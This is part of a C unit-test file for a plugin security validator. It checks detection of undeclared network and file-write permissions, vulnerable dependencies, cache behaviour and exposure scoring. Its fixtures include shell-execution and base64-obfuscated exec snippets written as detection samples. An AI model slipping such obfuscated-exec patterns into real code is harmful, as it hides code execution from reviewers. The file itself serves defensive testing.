	manifest("\"python3\", \"main.py\"", "\"network:download\"", NULL);
	scan(NULL, NULL, &r);
	absent(&r, "perm-endpoint-undeclared");
	validate_report_free(&r);
}

static void test_perm_write(void **state)
{
	struct validate_report r;
	static const char *const writes[] = {
		"open('/data/out.txt', 'w').write('x')\n",
		"with open(path, mode='a') as f:\n    pass\n",
		"import os\nos.remove(path)\n",
		"import shutil\nshutil.copy(src, '/home/u/Documents/x')\n",
		"from pathlib import Path\nPath(out).write_text('x')\n",
		"import os\nfd = os.open(path, os.O_WRONLY | os.O_CREAT)\n",
		"import urllib.request\nurllib.request.urlretrieve(URL, 'model.bin')\n",
	};
	static const char *const scratch[] = {
		"import tempfile\nwith tempfile.NamedTemporaryFile('w') as f:\n    f.write('x')\n",
		"import os\nout = os.path.join(os.environ['TMPDIR'], 'x')\nopen(out, 'w').write('x')\n",
		"import os, tempfile\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'x'), 'wb').close()\n",
		"import tempfile\nfrom pathlib import Path\nwith tempfile.TemporaryDirectory() as tmp:\n"
		"    (Path(tmp) / 'x').write_text('x')\n",
		"open('notes.txt').read()\nopen(p, 'rb')\n",
	};

	for (size_t i = 0; i < sizeof(writes) / sizeof(writes[0]); i++) {
		manifest("\"python3\", \"main.py\"", "", NULL);
		code(writes[i]);
		scan(NULL, NULL, &r);
		expect(&r, "perm-undeclared-write", SEV_MEDIUM);
		validate_report_free(&r);
		manifest("\"python3\", \"main.py\"", "\"write:documents\"", NULL);
		scan(NULL, NULL, &r);
		absent(&r, "perm-undeclared-write");
		validate_report_free(&r);
	}
	for (size_t i = 0; i < sizeof(scratch) / sizeof(scratch[0]); i++) {
		manifest("\"python3\", \"main.py\"", "", NULL);
		code(scratch[i]);
		scan(NULL, NULL, &r);
		absent(&r, "perm-undeclared-write");
		validate_report_free(&r);
	}
	/* Shell redirections. */
	manifest("\"sh\", \"run.sh\"", "", NULL);
	code("x = 1\n");
	put("run.sh", "#!/bin/sh\necho x > \"$TMPDIR/a\"\necho y 2>/dev/null >&2\n", 0755);
	scan(NULL, NULL, &r);
	absent(&r, "perm-undeclared-write");
	validate_report_free(&r);
	put("run.sh", "#!/bin/sh\necho x >> /home/u/Documents/log.txt\n", 0755);
	scan(NULL, NULL, &r);
	expect(&r, "perm-undeclared-write", -1);
	validate_report_free(&r);
}

static void test_perm_unused(void **state)
{
	struct validate_report r;

	manifest("\"python3\", \"main.py\"", "\"network:api\", \"write:config\", \"read:documents\"",
		 "\n[network]\nendpoints = [\"api.example.com:443\"]\n");
	code("print('hello')\n");
	scan(NULL, NULL, &r);
	{
		int n = 0;

		for (size_t i = 0; i < r.n; i++)
			n += !strcmp(r.findings[i].rule->id, "perm-unused");
		assert_int_equal(n, 3);
	}
	expect(&r, "perm-unused", SEV_INFO);
	validate_report_free(&r);
	/* An embedder that only talks to loopback Ollama does not use network:api. */
	manifest("\"python3\", \"main.py\"", "\"network:api\", \"system:embedding\"",
		 "\n[network]\nendpoints = [\"api.example.com:443\"]\n");
	code("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:11434/api/tags')\n");
	scan(NULL, NULL, &r);
	assert_non_null(strstr(expect(&r, "perm-unused", -1)->message, "network:api"));
	validate_report_free(&r);
	/* Code that cannot be seen into (a binary) gets no least-privilege hints. */
	manifest("\"python3\", \"main.py\"", "\"network:api\"", "\n[network]\nendpoints = [\"a.example:443\"]\n");
	code("print(1)\n");
	make_elf("helper", NULL, true);
	scan(NULL, NULL, &r);
	absent(&r, "perm-unused");
	validate_report_free(&r);
}

/* The example plugins: clean with their permissions, flagged without. */
static void test_examples(void **state)
{
	static const char *const names[] = { "embedder", "retriever", "downloader" };
	char dir[4300], cmd[9000];
	struct validate_report r;

	for (size_t i = 0; i < 3; i++) {
		snprintf(dir, sizeof(dir), "%s/%s", examples_dir, names[i]);
		scan(dir, NULL, &r);
		if (r.n) {
			dump(&r);
			fail_msg("%s is not clean", names[i]);
		}
		assert_true(r.uses & VUSE_NETWORK);
		assert_true(r.lines > 50);
		seen_good[rule_index("perm-undeclared-network")] = true;
		validate_report_free(&r);

		/* The same code, nothing declared. */
		snprintf(cmd, sizeof(cmd), "cp %s/* %s/ && sed -i 's/^required = .*/required = []/' %s/plugin.toml",
			 dir, tmp, tmp);
		assert_int_equal(system(cmd), 0);
		scan(NULL, NULL, &r);
		expect(&r, "perm-undeclared-network", SEV_HIGH);
		if (!strcmp(names[i], "downloader"))
			expect(&r, "perm-undeclared-write", SEV_MEDIUM);
		validate_report_free(&r);
	}
	/* The retriever with the embedding permission only: the vector store is flagged. */
	snprintf(cmd, sizeof(cmd), "sed -i 's/^required = .*/required = [\"system:embedding\"]/' %s/plugin.toml "
		 "&& cp %s/retriever/main.py %s/main.py && sed -i 's/^type = .*/type = \"retriever\"/' %s/plugin.toml",
		 tmp, examples_dir, tmp, tmp);
	assert_int_equal(system(cmd), 0);
	scan(NULL, NULL, &r);
	assert_non_null(strstr(expect(&r, "perm-undeclared-network", -1)->message, "system:vectorstore"));
	validate_report_free(&r);
}

/* ---- dependencies ---- */

static void test_deps(void **state)
{
	struct validate_opts o = { .osv_dir = osv_db() };
	struct validate_report r;
	int vuln = 0;

	plain();
	manifest("\"python3\", \"main.py\"", "",
		 "\n[dependencies]\npython = [\"requests==2.30.0\", \"urllib3==2.2.3\", \"rich\", "
		 "\"Jinja2==3.1.2\", \"numpy>=1.24,<2\"]\n");
	scan(NULL, &o, &r);
	for (size_t i = 0; i < r.n; i++)
		if (!strcmp(r.findings[i].rule->id, "dep-vulnerable")) {
			vuln++;
			assert_string_equal(r.findings[i].file, "plugin.toml");
			/* GHSA and PYSEC records of one CVE: reported once. */
			assert_null(strstr(r.findings[i].message, "PYSEC-2023-74"));
		}
	assert_int_equal(vuln, 3 + 3);	/* requests: 3 CVEs; jinja2 3.1.2: 3 */
	assert_non_null(strstr(expect(&r, "dep-vulnerable", SEV_MEDIUM)->message, "fixed in"));
	{
		int unpinned = 0;

		for (size_t i = 0; i < r.n; i++)
			unpinned += !strcmp(r.findings[i].rule->id, "dep-unpinned");
		assert_int_equal(unpinned, 2);
	}
	expect(&r, "dep-unpinned", SEV_LOW);
	absent(&r, "dep-invalid");
	absent(&r, "dep-db-unavailable");
	validate_report_free(&r);

	manifest("\"python3\", \"main.py\"", "",
		 "\n[dependencies]\npython = [\"requests==2.32.4\", \"urllib3==2.5.0\"]\n");
	scan(NULL, &o, &r);
	absent(&r, "dep-vulnerable");
	absent(&r, "dep-unpinned");
	validate_report_free(&r);

	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"pkg==not.a.version\", \"ok==1.0\"]\n");
	o.osv_dir = NULL;
	scan(NULL, &o, &r);
	expect(&r, "dep-invalid", SEV_MEDIUM);
	expect(&r, "dep-db-unavailable", SEV_INFO);
	validate_report_free(&r);
	o.osv_dir = "/nonexistent/osv";
	scan(NULL, &o, &r);
	assert_non_null(strstr(expect(&r, "dep-db-unavailable", -1)->message, "/nonexistent/osv"));
	validate_report_free(&r);
}

/*
 * The advisory data's age, from the update stamp: shown when known, and
 * dep-db-stale past the limit; never cached (a cached report ages too).
 */
static void test_deps_stale(void **state)
{
	char db[4200], cmd[9000], cache[4300];
	struct validate_opts o = { 0 };
	struct validate_report r;
	long now = (long)time(NULL);

	snprintf(db, sizeof(db), "%s.osv", tmp);
	snprintf(cache, sizeof(cache), "%s.cache", tmp);
	snprintf(cmd, sizeof(cmd), "rm -rf %s %s && mkdir -p %s && cp %s/*.json %s/", db, cache, db,
		 osv_db(), db);
	assert_int_equal(system(cmd), 0);
	o.osv_dir = db;
	o.cache_dir = cache;
	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"urllib3==2.5.0\"]\n");
	scan(NULL, &o, &r);	/* no stamp: age unknown, no warning */
	absent(&r, "dep-db-stale");
	assert_string_equal(r.advisories_fetched_at, "");
	validate_report_free(&r);
	snprintf(cmd, sizeof(cmd), "printf '{\"fetched_at\":\"then\",\"fetched_at_unix\":%ld,"
		 "\"source\":\"s\",\"count\":10,\"sha256\":\"x\"}' > %s/.ragged-advisories",
		 now - 3 * 86400 - 60, db);
	assert_int_equal(system(cmd), 0);
	scan(NULL, &o, &r);
	absent(&r, "dep-db-stale");	/* 3 days: within the default 7 */
	assert_string_equal(r.advisories_fetched_at, "then");
	assert_int_equal(r.advisories_age_days, 3);
	validate_report_free(&r);
	o.osv_max_age_days = 2;
	scan(NULL, &o, &r);	/* the same (cached) report, a tighter limit */
	assert_non_null(strstr(expect(&r, "dep-db-stale", SEV_LOW)->message, "3 days old"));
	validate_report_free(&r);
	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"rich\"]\n");
	scan(NULL, &o, &r);	/* nothing pinned: nothing checked against the data */
	absent(&r, "dep-db-stale");
	validate_report_free(&r);
	snprintf(cmd, sizeof(cmd), "chmod 0666 %s/.ragged-advisories", db);
	assert_int_equal(system(cmd), 0);
	o.osv_max_age_days = 2;
	scan(NULL, &o, &r);	/* a stamp anyone could have written: not believed */
	absent(&r, "dep-db-stale");
	assert_string_equal(r.advisories_fetched_at, "");
	validate_report_free(&r);
	snprintf(cmd, sizeof(cmd), "rm %s/.ragged-advisories && mkdir %s/.ragged-advisories", db, db);
	assert_int_equal(system(cmd), 0);
	scan(NULL, &o, &r);	/* not a file */
	absent(&r, "dep-db-stale");
	validate_report_free(&r);
	snprintf(cmd, sizeof(cmd), "rmdir %s/.ragged-advisories && echo '{\"fetched_at\":1}' > "
		 "%s/.ragged-advisories", db, db);
	assert_int_equal(system(cmd), 0);
	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"urllib3==2.5.0\"]\n");
	scan(NULL, &o, &r);	/* not a stamp: age unknown */
	absent(&r, "dep-db-stale");
	validate_report_free(&r);
	snprintf(cmd, sizeof(cmd), "rm -rf %s %s", db, cache);
	assert_int_equal(system(cmd), 0);
}

/* ---- digest, cache, report model ---- */

static void digest_of(char out[65])
{
	struct validate_report r;

	scan(NULL, NULL, &r);
	memcpy(out, r.digest, 65);
	assert_int_equal(strlen(out), 64);
	validate_report_free(&r);
}

static void test_digest(void **state)
{
	char a[65], b[65], c[65], d[65], e[65], p[512];

	plain();
	put("z.txt", "z", 0644);
	put("a/b.txt", "b", 0644);
	digest_of(a);
	digest_of(b);
	assert_string_equal(a, b);
	put("z.txt", "Z", 0644);		/* content */
	digest_of(c);
	assert_string_not_equal(a, c);
	put("z.txt", "z", 0755);		/* mode */
	digest_of(d);
	assert_string_not_equal(a, d);
	put("z.txt", "z", 0644);
	digest_of(e);
	assert_string_equal(a, e);
	assert_int_equal(symlinkat("z.txt", AT_FDCWD, strcat(strcpy(p, tmp), "/l")), 0);
	digest_of(e);				/* a new entry, even a link */
	assert_string_not_equal(a, e);
}

static void test_cache(void **state)
{
	char cache[128], path[512], a[65];
	struct validate_opts o;
	struct validate_report r;
	struct dirent *de;
	DIR *dir;

	snprintf(cache, sizeof(cache), "%s-cache", tmp);
	o = (struct validate_opts){ .cache_dir = cache };
	plain();
	code("import os\nos.system('id')\n");
	scan(NULL, &o, &r);
	assert_false(r.cached);
	expect(&r, "py-shell", SEV_HIGH);
	memcpy(a, r.digest, 65);
	validate_report_free(&r);

	scan(NULL, &o, &r);
	assert_true(r.cached);
	assert_string_equal(r.digest, a);
	expect(&r, "py-shell", SEV_HIGH);
	assert_true(r.uses & VUSE_PROCESS);
	assert_true(r.files >= 2);
	validate_report_free(&r);

	/* A change re-runs the analysis. */
	code("print('fixed')\n");
	scan(NULL, &o, &r);
	assert_false(r.cached);
	absent(&r, "py-shell");
	validate_report_free(&r);

	/*
	 * The process keeps what it read or wrote: with the files gone, an
	 * unchanged plugin is still a hit (the entry names its content).
	 */
	code("import os\nos.system('id')\n");
	scan(NULL, &o, &r);
	assert_true(r.cached);
	validate_report_free(&r);
	dir = opendir(cache);
	assert_non_null(dir);
	while ((de = readdir(dir)))
		if (de->d_name[0] != '.') {
			snprintf(path, sizeof(path), "%s/%s", cache, de->d_name);
			assert_int_equal(unlink(path), 0);
		}
	closedir(dir);
	scan(NULL, &o, &r);
	assert_true(r.cached);
	expect(&r, "py-shell", SEV_HIGH);
	validate_report_free(&r);
	validate_reports_forget();
	scan(NULL, &o, &r);		/* forgotten and no file: analysed again */
	assert_false(r.cached);
	expect(&r, "py-shell", SEV_HIGH);
	validate_report_free(&r);

	/* A damaged cache entry is a miss, never trusted (what this process kept, forgotten). */
	validate_reports_forget();
	dir = opendir(cache);
	assert_non_null(dir);
	while ((de = readdir(dir)))
		if (de->d_name[0] != '.') {
			FILE *f;

			snprintf(path, sizeof(path), "%s/%s", cache, de->d_name);
			f = fopen(path, "w");
			fputs("{\"ruleset\":\"0\",\"findings\":[]}", f);
			fclose(f);
		}
	closedir(dir);
	scan(NULL, &o, &r);
	assert_false(r.cached);
	validate_report_free(&r);

	/* A database that cannot be fingerprinted still caches, under "none". */
	o.osv_dir = "/nonexistent/osv";
	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"requests==2.31.0\"]\n");
	scan(NULL, &o, &r);
	expect(&r, "dep-db-unavailable", -1);
	validate_report_free(&r);

	/* With dependencies checked, a cached report expires (the database may change in place). */
	o.osv_dir = osv_db();
	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"requests==2.31.0\"]\n");
	scan(NULL, &o, &r);
	assert_false(r.cached);
	expect(&r, "dep-vulnerable", -1);
	validate_report_free(&r);
	scan(NULL, &o, &r);
	assert_true(r.cached);
	expect(&r, "dep-vulnerable", -1);
	validate_report_free(&r);
	dir = opendir(cache);
	assert_non_null(dir);
	while ((de = readdir(dir)))
		if (de->d_name[0] != '.') {
			char *text, *at;
			size_t len;
			FILE *f;

			snprintf(path, sizeof(path), "%s/%s", cache, de->d_name);
			text = slurp(path, &len);
			if ((at = strstr(text, "\"checked_at\":"))) {
				/* An hour and more ago. */
				at += 13;
				memset(at, ' ', strspn(at, "0123456789"));
				at[0] = '1';
				f = fopen(path, "w");
				fputs(text, f);
				fclose(f);
			}
			free(text);
		}
	closedir(dir);
	validate_reports_forget();
	scan(NULL, &o, &r);
	assert_false(r.cached);
	expect(&r, "dep-vulnerable", -1);
	validate_report_free(&r);
	nftw(cache, rm_cb, 8, FTW_DEPTH | FTW_PHYS);
}

/* Rewrite rel until its ctime moves on (a write in the same clock tick keeps it). */
static void rewrite(const char *rel, const char *text)
{
	struct stat a, b;
	char path[512];
	int i = 0;

	snprintf(path, sizeof(path), "%s/%s", tmp, rel);
	assert_int_equal(stat(path, &a), 0);
	do {
		put(rel, text, 0644);
		assert_int_equal(stat(path, &b), 0);
	} while (a.st_ctim.tv_sec == b.st_ctim.tv_sec && a.st_ctim.tv_nsec == b.st_ctim.tv_nsec &&
		 ++i < 1000000);
}

/* Count the fingerprint entries (fp-*) in the cache; with one, its path in first. */
static int fp_entries(const char *cache, char *first, size_t len)
{
	struct dirent *de;
	DIR *dir = opendir(cache);
	int n = 0;

	if (!dir && errno == ENOENT)
		return 0;	/* nothing was cached at all */
	assert_non_null(dir);
	while ((de = readdir(dir)))
		if (strncmp(de->d_name, "fp-", 3) == 0 && n++ == 0)
			snprintf(first, len, "%s/%s", cache, de->d_name);
	closedir(dir);
	return n;
}

/*
 * The stat fingerprint: an unchanged plugin is re-checked without reading
 * its files; any change (same size included) is a full scan.
 */
static void test_cache_fingerprint(void **state)
{
	char cache[128], fpath[512], digest[65], buf[256];
	struct validate_opts o;
	struct validate_report r;
	FILE *f;

	snprintf(cache, sizeof(cache), "%s-fpcache", tmp);
	o = (struct validate_opts){ .cache_dir = cache };
	plain();
	code("print('a')\n");
	put("lib/util/helpers.py", "X = 1\n", 0644);	/* subdirectories are walked */
	snprintf(buf, sizeof(buf), "%s/link", tmp);
	assert_int_equal(symlink("lib/util/helpers.py", buf), 0);	/* and links read */
	/* Just written: not settled, so no fingerprint is recorded. */
	scan(NULL, &o, &r);
	assert_false(r.cached);
	validate_report_free(&r);
	assert_int_equal(fp_entries(cache, fpath, sizeof(fpath)), 0);

	file_stamp_settle_s = 0;
	scan(NULL, &o, &r);		/* content cache hit; the fingerprint is recorded */
	assert_true(r.cached);
	memcpy(digest, r.digest, 65);
	validate_report_free(&r);
	assert_int_equal(fp_entries(cache, fpath, sizeof(fpath)), 1);

	/* The next check takes the fingerprint's word: its counters come back. */
	f = fopen(fpath, "w");
	assert_non_null(f);
	fprintf(f, "%s 777 4242\n", digest);
	fclose(f);
	validate_fp_forget();	/* what the process kept: the file is read again */
	scan(NULL, &o, &r);
	assert_true(r.cached);
	assert_string_equal(r.digest, digest);
	assert_int_equal(r.files, 777);
	validate_report_free(&r);
	/* ... and kept: with the entry's file gone, the process still has its word. */
	assert_int_equal(unlink(fpath), 0);
	scan(NULL, &o, &r);
	assert_true(r.cached);
	assert_int_equal(r.files, 777);
	validate_report_free(&r);
	assert_int_equal(fp_entries(cache, fpath, sizeof(fpath)), 0);

	/* Same size, new content: a full scan finds it. */
	rewrite("main.py", "import os\nos.system('id')\n");
	rewrite("main.py", "import os\nos.system('i')\n");
	scan(NULL, &o, &r);
	assert_false(r.cached);
	expect(&r, "py-shell", SEV_HIGH);
	assert_string_not_equal(r.digest, digest);
	assert_true(r.files >= 2 && r.files != 777);
	validate_report_free(&r);
	assert_int_equal(fp_entries(cache, fpath, sizeof(fpath)), 1);	/* the first was unlinked */

	/* A mode change alone: another fingerprint, so the files are read again. */
	snprintf(buf, sizeof(buf), "%s/main.py", tmp);
	assert_int_equal(chmod(buf, 0600), 0);
	scan(NULL, &o, &r);
	expect(&r, "py-shell", SEV_HIGH);
	validate_report_free(&r);
	assert_int_equal(fp_entries(cache, fpath, sizeof(fpath)), 2);

	/* Over a cap (files or depth): no fingerprint, the full scan says why. */
	o.max_files = 2;
	nftw(cache, rm_cb, 8, FTW_DEPTH | FTW_PHYS);
	validate_fp_forget();
	validate_reports_forget();
	scan(NULL, &o, &r);
	expect(&r, "fs-limit", -1);
	validate_report_free(&r);
	assert_int_equal(fp_entries(cache, fpath, sizeof(fpath)), 0);
	o.max_files = 0;
	o.max_depth = 1;
	scan(NULL, &o, &r);
	expect(&r, "fs-limit", -1);
	validate_report_free(&r);
	assert_int_equal(fp_entries(cache, fpath, sizeof(fpath)), 0);
	o.max_depth = 0;

	/* A damaged fingerprint entry is a miss. */
	nftw(cache, rm_cb, 8, FTW_DEPTH | FTW_PHYS);
	validate_fp_forget();
	validate_reports_forget();
	scan(NULL, &o, &r);
	validate_report_free(&r);
	assert_int_equal(fp_entries(cache, fpath, sizeof(fpath)), 1);
	f = fopen(fpath, "w");
	assert_non_null(f);
	fputs("not a digest 1 2\n", f);
	fclose(f);
	validate_fp_forget();
	scan(NULL, &o, &r);
	expect(&r, "py-shell", SEV_HIGH);
	assert_true(r.files >= 2);
	validate_report_free(&r);

	file_stamp_settle_s = 2;
	nftw(cache, rm_cb, 8, FTW_DEPTH | FTW_PHYS);
}

static void test_manifest_invalid_and_errors(void **state)
{
	struct validate_report r;
	char err[256];

	plain();
	assert_int_equal(validate_dir(tmp, NULL, NULL, &r, err, sizeof(err)), 0);
	absent(&r, "manifest-invalid");
	/* Without a manifest, the manifest checks are skipped, the rest still runs. */
	absent(&r, "perm-unused");
	assert_int_equal(validate_add_manifest_error(&r, "plugin.toml:3: plugin.version: not semver"), 0);
	assert_string_equal(expect(&r, "manifest-invalid", SEV_CRITICAL)->message,
			    "plugin.toml:3: plugin.version: not semver");
	assert_true(validate_blocks(&r, SEV_CRITICAL));
	validate_report_free(&r);

	assert_int_equal(validate_dir("/nonexistent/plugin", NULL, NULL, &r, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "/nonexistent/plugin"));
	assert_int_equal(r.n, 0);
	validate_report_free(&r);
	put("file", "x", 0644);
	snprintf(err, sizeof(err), "%s/file", tmp);
	assert_int_equal(validate_dir(err, NULL, NULL, &r, err, sizeof(err)), -1);
	validate_report_free(&r);
}

static void test_report_model(void **state)
{
	struct validate_report r;
	unsigned c[5];
	enum severity s;
	cJSON *j, *f;
	char *text = NULL;
	size_t len = 0;
	FILE *out;
	const char *src = "import os\nos.system('x')\nexec(base64.b64decode(X))\n";

	assert_int_equal(validate_python_buffer("m.py", src, strlen(src), &r), 0);
	assert_true(r.n >= 2);
	/* Most severe first. */
	assert_int_equal(r.findings[0].severity, SEV_CRITICAL);
	assert_string_equal(r.findings[0].rule->id, "py-obfuscated-exec");
	assert_true(validate_blocks(&r, SEV_CRITICAL));
	assert_true(validate_blocks(&r, SEV_HIGH));
	validate_counts(&r, c);
	assert_int_equal(c[SEV_CRITICAL], 1);
	assert_int_equal(c[SEV_HIGH], 1);

	j = validate_report_json(&r);
	assert_non_null(j);
	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(j, "findings")), (int)r.n);
	f = cJSON_GetArrayItem(cJSON_GetObjectItem(j, "findings"), 0);
	assert_string_equal(cJSON_GetObjectItem(f, "rule")->valuestring, "py-obfuscated-exec");
	assert_string_equal(cJSON_GetObjectItem(f, "severity")->valuestring, "critical");
	assert_string_equal(cJSON_GetObjectItem(f, "file")->valuestring, "m.py");
	assert_int_equal(cJSON_GetObjectItem(f, "line")->valueint, 3);
	assert_non_null(cJSON_GetObjectItem(f, "message")->valuestring);
	assert_non_null(cJSON_GetObjectItem(f, "remediation")->valuestring);
	assert_int_equal(cJSON_GetObjectItem(cJSON_GetObjectItem(j, "counts"), "critical")->valueint, 1);
	assert_string_equal(cJSON_GetArrayItem(cJSON_GetObjectItem(j, "uses"), 0)->valuestring, "process");
	cJSON_Delete(j);

	out = open_memstream(&text, &len);
	validate_report_text(&r, out);
	fclose(out);
	assert_non_null(strstr(text, "critical py-obfuscated-exec"));
	assert_non_null(strstr(text, "m.py:3"));
	assert_non_null(strstr(text, "fix: "));
	free(text);
	validate_report_free(&r);

	/* Clean. */
	assert_int_equal(validate_python_buffer("ok.py", "x = 1\n", 6, &r), 0);
	assert_false(validate_blocks(&r, SEV_INFO));
	out = open_memstream(&text, &len);
	validate_report_text(&r, out);
	fclose(out);
	assert_non_null(strstr(text, "no findings"));
	free(text);
	validate_report_free(&r);

	/* Severity names round-trip; unknown names are refused. */
	for (int i = SEV_INFO; i <= SEV_CRITICAL; i++) {
		assert_int_equal(severity_parse(severity_name((enum severity)i), &s), 0);
		assert_int_equal(s, i);
	}
	assert_int_equal(severity_parse("severe", &s), -1);
	assert_int_equal(severity_parse(NULL, &s), -1);
	assert_string_equal(severity_name((enum severity)9), "?");
	assert_null(validate_rule_find("no-such-rule"));
	assert_null(validate_use_name(0x3));
	/* A whole-plugin finding renders with a null file. */
	validate_python_buffer("x.py", "", 0, &r);
	validate_add_manifest_error(&r, "");
	f = validate_finding_json(&r.findings[0]);
	assert_string_equal(cJSON_GetObjectItem(f, "file")->valuestring, "plugin.toml");
	cJSON_Delete(f);
	r.findings[0].file[0] = '\0';
	free(r.findings[0].file);
	r.findings[0].file = NULL;
	f = validate_finding_json(&r.findings[0]);
	assert_true(cJSON_IsNull(cJSON_GetObjectItem(f, "file")));
	cJSON_Delete(f);
	out = open_memstream(&text, &len);
	validate_report_text(&r, out);
	fclose(out);
	assert_non_null(strstr(text, "(plugin)"));
	free(text);
	validate_report_free(&r);
}

static void test_repeat_cap(void **state)
{
	struct validate_report r;
	char *src = malloc(64 * 40);
	size_t n = 0;

	for (int i = 0; i < 40; i++)
		n += (size_t)sprintf(src + n, "eval(x%d)\n", i);
	validate_python_buffer("many.py", src, n, &r);
	assert_int_equal(r.n, 20);
	assert_int_equal(r.dropped, 20);
	validate_report_free(&r);
	/* The same finding twice (an f-string field analysed again) is one finding. */
	validate_python_buffer("f.py", "print(f'{eval(x)}'); print(f'{eval(x)}')\n", 41, &r);
	assert_int_equal(r.n, 1);
	validate_report_free(&r);
	free(src);
}

/* Arbitrary bytes never crash the analysers (the fuzzer does this at scale). */
static void test_garbage(void **state)
{
	static const char *const inputs[] = {
		"\xff\xfe\x00\x01(((((((((", "f'{", "f'{x:{y:{z", "exec(", "getattr(", "__import__(",
		"getattr(__builtins__,", "vars(", "globals()[", "'a' + ", "''.join([", "chr(", "x[::-1",
		"import", "from . import", "from", "import a as", "with open(x) as", "del", "\\",
		"\"\"\"", "'''", "os.system(\"$(\"", "a = b = c = eval", ")]}", "exec(''.join([chr(1)] * 3))",
	};
	struct validate_report r;

	for (size_t i = 0; i < sizeof(inputs) / sizeof(inputs[0]); i++) {
		validate_python_buffer("g.py", inputs[i], strlen(inputs[i]), &r);
		validate_report_free(&r);
		validate_shell_buffer("g.sh", inputs[i], strlen(inputs[i]), &r);
		validate_report_free(&r);
	}
	assert_int_equal(pyrules_selftest(), 0);
}

static void test_exposure(void **state)
{
	struct validate_report clean = { .complete = true }, bad;
	struct exposure_input in = { 0 };
	cJSON *o;
	const char *src = "exec(base64.b64decode(X))\n";

	in.requested = RAGGED_PERM_BIT(RAGGED_PERM_SYSTEM_EMBEDDING);
	in.granted = in.requested;
	in.granted_known = true;
	in.report = &clean;
	in.enforcement = "bpf-lsm";
	o = validate_exposure(&in);
	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 6);
	assert_string_equal(cJSON_GetObjectItem(o, "level")->valuestring, "low");
	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(o, "reasons")), 1);
	cJSON_Delete(o);

	/* Documents + network: the exfiltration path; unknown grants count as requested. */
	in.requested = RAGGED_PERM_BIT(RAGGED_PERM_READ_DOCUMENTS) | RAGGED_PERM_BIT(RAGGED_PERM_NETWORK_API);
	in.granted = 0;
	in.granted_known = false;
	o = validate_exposure(&in);
	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 6 + 12 + 15);
	assert_string_equal(cJSON_GetObjectItem(o, "level")->valuestring, "medium");
	cJSON_Delete(o);
	/* Known grants, nothing granted: a third of the points, no exfiltration path yet. */
	in.granted_known = true;
	o = validate_exposure(&in);
	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 2 + 4);
	cJSON_Delete(o);

	/* Findings, violations, escapes, kills, an unknown mode: capped at 100. */
	validate_python_buffer("m.py", src, strlen(src), &bad);
	in.report = &bad;
	in.violations = 30;
	in.escapes = 2;
	in.limit_kills = 1;
	in.enforcement = "none";
	o = validate_exposure(&in);
	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 2 + 4 + 30 + 20 + 16 + 3 + 20);
	assert_string_equal(cJSON_GetObjectItem(o, "level")->valuestring, "high");
	cJSON_Delete(o);
	in.escapes = 9;
	o = validate_exposure(&in);
	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 100);
	cJSON_Delete(o);
	validate_report_free(&bad);

	/* Not validated, incomplete, landlock: said, with their points. */
	in = (struct exposure_input){ .enforcement = "landlock" };
	o = validate_exposure(&in);
	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 10);
	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(o, "reasons")), 2);
	cJSON_Delete(o);
	clean.complete = false;
	in.report = &clean;
	o = validate_exposure(&in);
	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 5);
	cJSON_Delete(o);
}

/* Every rule of the catalog was seen firing and seen not firing. */
static void test_every_rule_covered(void **state)
{
	int missing = 0;

	for (int i = 0; validate_rules[i].id; i++) {
		assert_non_null(validate_rules[i].title);
		assert_non_null(validate_rules[i].remediation);
		if (!seen_bad[i] || !seen_good[i]) {
			fprintf(stderr, "rule %s: %s%s\n", validate_rules[i].id,
				seen_bad[i] ? "" : "no triggering example ",
				seen_good[i] ? "" : "no non-triggering example");
			missing++;
		}
	}
	assert_int_equal(missing, 0);
}

#define T(f) cmocka_unit_test_setup_teardown(f, mk_tmp, rm_tmp)

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rule_fixtures),
		T(test_fs_symlinks),
		T(test_fs_modes),
		T(test_fs_unreadable),
		T(test_fs_limits),
		T(test_dispatch),
		T(test_big_files),
		T(test_bytecode),
		T(test_entry),
		T(test_elf),
		T(test_perm_network),
		T(test_perm_endpoints),
		T(test_perm_write),
		T(test_perm_unused),
		T(test_examples),
		T(test_deps),
		T(test_deps_stale),
		T(test_digest),
		T(test_cache),
		T(test_cache_fingerprint),
		T(test_manifest_invalid_and_errors),
		cmocka_unit_test(test_report_model),
		cmocka_unit_test(test_repeat_cap),
		cmocka_unit_test(test_garbage),
		cmocka_unit_test(test_exposure),
		cmocka_unit_test(test_every_rule_covered),
	};

	return cmocka_run_group_tests(tests, setup, NULL);
}
